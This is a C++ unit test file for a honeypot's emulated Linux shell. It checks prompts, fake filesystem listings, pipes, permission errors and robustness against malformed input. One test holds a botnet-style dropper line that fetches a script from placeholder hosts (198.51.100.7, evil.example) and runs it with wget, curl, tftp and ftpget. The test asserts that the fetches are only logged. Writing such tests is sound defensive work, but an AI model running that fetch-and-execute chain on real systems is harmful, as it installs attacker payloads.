#include "honeypot/fake_shell.hpp"

#include <gtest/gtest.h>

namespace honeycomb::honeypot {
namespace {

FakeShell root_shell() {
  return FakeShell({.user = "root", .hostname = "web-03", .seed = 42});
}

TEST(FakeShell, PromptFollowsUserAndDirectory) {
  auto shell = root_shell();
  EXPECT_EQ(shell.prompt(), "root@web-03:~# ");
  shell.run("cd /tmp");
  EXPECT_EQ(shell.prompt(), "root@web-03:/tmp# ");
  FakeShell user({.user = "admin", .hostname = "db07", .seed = 1});
  EXPECT_EQ(user.prompt(), "admin@db07:~$ ");
}

TEST(FakeShell, AnswersTheUsualFirstCommands) {
  auto shell = root_shell();
  EXPECT_EQ(shell.run("whoami").output, "root\n");
  EXPECT_EQ(shell.run("id").output, "uid=0(root) gid=0(root) groups=0(root)\n");
  EXPECT_EQ(shell.run("pwd").output, "/root\n");
  EXPECT_EQ(shell.run("uname").output, "Linux\n");
  const auto all = shell.run("uname -a").output;
  EXPECT_EQ(all.rfind("Linux web-03 6.1.0-", 0), 0U) << all;
  EXPECT_NE(all.find(" x86_64 GNU/Linux\n"), std::string::npos) << all;
  EXPECT_NE(shell.run("cat /etc/passwd").output.find("root:x:0:0:root:/root:/bin/bash\n"), std::string::npos);
  EXPECT_EQ(shell.run("cat /etc/hostname").output, "web-03\n");
  EXPECT_EQ(shell.run("nosuchtool -x").output, "-bash: nosuchtool: command not found\n");
  EXPECT_EQ(shell.run("./x86_64").output, "-bash: ./x86_64: No such file or directory\n");
}

TEST(FakeShell, ListsTheFakeFilesystem) {
  auto shell = root_shell();
  const auto root = shell.run("ls /").output;
  EXPECT_NE(root.find("bin  boot  dev  etc  home"), std::string::npos) << root;
  EXPECT_NE(shell.run("ls -la /etc").output.find(" passwd\n"), std::string::npos);
  EXPECT_EQ(shell.run("ls /nope").output, "ls: cannot access '/nope': No such file or directory\n");
  EXPECT_EQ(shell.run("cd /nope").output, "-bash: cd: /nope: No such file or directory\n");
  shell.run("cd /etc && cd ..");
  EXPECT_EQ(shell.cwd(), "/");
}

TEST(FakeShell, PipesListsAndRedirections) {
  auto shell = root_shell();
  EXPECT_EQ(shell.run("cat /proc/cpuinfo | grep 'model name' | wc -l").output, "2\n");
  EXPECT_EQ(shell.run("echo a; echo b && echo c || echo d").output, "a\nb\nc\n");
  EXPECT_EQ(shell.run("false || echo fallback").output, "fallback\n");
  EXPECT_EQ(shell.run("echo hidden > /tmp/x 2>&1; echo shown").output, "shown\n");
  EXPECT_EQ(shell.run("echo -e '\\x41\\x42' $HOME").output, "AB /root\n");
  EXPECT_EQ(shell.run("echo \"$USER in $PWD\" # comment").output, "root in /root\n");
  EXPECT_EQ(shell.run("/bin/busybox ECCHI").output, "ECCHI: applet not found\n");
  EXPECT_EQ(shell.run("busybox echo hi").output, "hi\n");
}

TEST(FakeShell, DownloadsAreRecordedNeverFetched) {
  auto shell = root_shell();
  const auto r = shell.run(
      "cd /tmp || cd /var/run; wget http://198.51.100.7/bins.sh; curl -s -o x http://evil.example/x; "
      "tftp -g -r mips 198.51.100.8; ftpget -u a -p b 198.51.100.9 local.bin remote.bin; chmod 777 bins.sh; sh "
      "bins.sh");
  EXPECT_EQ(r.downloads, (std::vector<std::string>{"http://198.51.100.7/bins.sh", "http://evil.example/x",
                                                   "tftp://198.51.100.8/mips", "ftp://198.51.100.9/remote.bin"}));
  EXPECT_NE(r.output.find("Connecting to 198.51.100.7... failed: Connection timed out."), std::string::npos)
      << r.output;
  EXPECT_NE(r.output.find("sh: 0: cannot open bins.sh: No such file"), std::string::npos) << r.output;
  EXPECT_EQ(shell.run("sh -c 'wget http://a.example/y'").downloads, std::vector<std::string>{"http://a.example/y"});
}

TEST(FakeShell, ExitEndsTheSession) {
  auto shell = root_shell();
  EXPECT_TRUE(shell.run("exit").exit);
  EXPECT_TRUE(shell.run("echo bye; logout").exit);
  EXPECT_FALSE(shell.run("echo exit").exit);
}

TEST(FakeShell, HostileLinesStayBounded) {
  auto shell = root_shell();
  std::string many;
  for (int i = 0; i < 1000; ++i) {
    many += "cat /proc/cpuinfo;";
  }
  EXPECT_LE(shell.run(many).output.size(), FakeShell::kMaxOutput);
  std::string nested = "echo deep";
  for (int i = 0; i < 20; ++i) {
    nested = "sh -c '" + nested + "'";
  }
  EXPECT_NO_THROW(shell.run(nested));
  EXPECT_NO_THROW(shell.run("echo \"unterminated 'quote \\"));
  EXPECT_NO_THROW(shell.run(">>>>&&&|||;;;<<<2>&"));
  EXPECT_NO_THROW(shell.run("head -n 99999999999999999999999 /etc/passwd"));
}

TEST(FakeShell, NonRootCannotReadShadow) {
  FakeShell user({.user = "admin", .hostname = "db07", .seed = 1});
  EXPECT_EQ(user.run("cat /etc/shadow").output, "cat: /etc/shadow: Permission denied\n");
  EXPECT_EQ(user.run("ls /root").output, "ls: cannot open directory '/root': Permission denied\n");
}

}  // namespace
}  // namespace honeycomb::honeypot
